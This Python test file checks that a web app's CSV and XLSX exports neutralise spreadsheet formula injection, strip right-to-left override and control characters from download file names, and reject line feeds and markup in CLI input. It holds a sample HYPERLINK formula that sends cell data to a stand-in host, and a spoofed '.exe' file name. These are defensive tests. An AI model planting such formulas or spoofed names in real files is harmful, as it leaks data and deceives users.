"""Every download neutral (issue 22, failures 6 and 7): the comparison's CSV wrote sphere names raw in its header
row and its XLSX made such a header a live formula; a right-to-left override passed into file names; the CLI
took a line feed in a sphere's name."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from clirun import run
from renkei.ingest import read_sample
from renkei.store import SphereSpec, Store
from renkei.web.app import create_app
from renkei.web.files import content_disposition

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"見る")'


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, str]]:
    store = Store.open(f"sqlite:///{tmp_path_factory.mktemp('neutral') / 'r.db'}")
    reading = read_sample()
    store.import_reading(reading, SphereSpec(key="evil", name=EVIL), author="test", message="x")
    code = next(m.code for m in reading.vision.municipalities if m.code)
    with TestClient(create_app(store)) as client:
        yield client, code
    store.close()


def test_the_comparisons_header_of_sphere_names_is_neutral(client: tuple[TestClient, str]) -> None:
    web, code = client
    answer = web.get("/compare/export/csv", params={"municipality": code})
    assert answer.status_code == 200, answer.text
    header = next(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert "'" + EVIL in header, header  # the sphere's name heads a column, as text
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
    book = load_workbook(io.BytesIO(web.get("/compare/export/xlsx", params={"municipality": code}).content))
    sheet = book.active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert EVIL in [c.value for c in cells]  # kept exactly, as text
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]


def test_file_names_lose_bidirectional_and_control_characters() -> None:
    header = content_disposition("report\u202efdp.exe\u2066\r\n.csv", "report.csv")
    name = unquote(header.split("filename*=UTF-8''", 1)[1])
    assert name == "reportfdp.exe.csv"


def test_a_sphere_name_with_a_line_feed_is_refused_by_the_cli(tmp_path: Path, seed_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'r.db'}"
    done = run("import", seed_path, "--db", db, "--sphere", "abc", "--new-sphere", "--name", "a\nb")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and "abc" in done.stderr
    listed = run("spheres", "--db", db)
    assert "abc" not in listed.stdout  # nothing written


def test_a_file_name_that_looks_like_markup_is_a_clean_error() -> None:
    """Failure 4: ``nosuch[/b].csv`` made the CLI print a rich MarkupError traceback and exit 1."""
    done = run("check", "nosuch[/b].csv")
    assert done.returncode == 2, done.stderr
    assert "nosuch[/b].csv" in done.stderr and "Traceback" not in done.stderr and "MarkupError" not in done.stderr
